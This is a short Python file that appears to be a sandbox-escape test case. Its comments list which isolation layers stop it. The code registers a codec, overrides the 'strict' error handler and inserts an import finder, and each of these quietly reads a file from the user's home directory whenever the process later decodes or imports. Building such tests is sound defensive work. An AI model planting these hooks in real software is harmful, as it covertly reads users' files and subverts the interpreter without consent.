"""Leaves a codec, an error handler and an import finder for whatever decodes or imports next in this process."""
# stopped by: seccomp, landlock, namespaces
# at D: breach

import codecs
import sys

READ = []


def read():
    READ.append(open("@HOME@/notes.txt").read())


class Finder:
    def find_spec(self, name, path=None, target=None):
        read()


def attack():
    codecs.register(lambda name: read())
    codecs.register_error("strict", lambda error: (read(), ("", error.end))[1])
    sys.meta_path.insert(0, Finder())
    for attempt in (
        lambda: "".encode("left_behind"),
        lambda: b"\xff".decode("ascii"),
        lambda: __import__("left_behind"),
    ):
        try:
            attempt()
        except (LookupError, ImportError, UnicodeError):
            continue
    return "".join(READ)
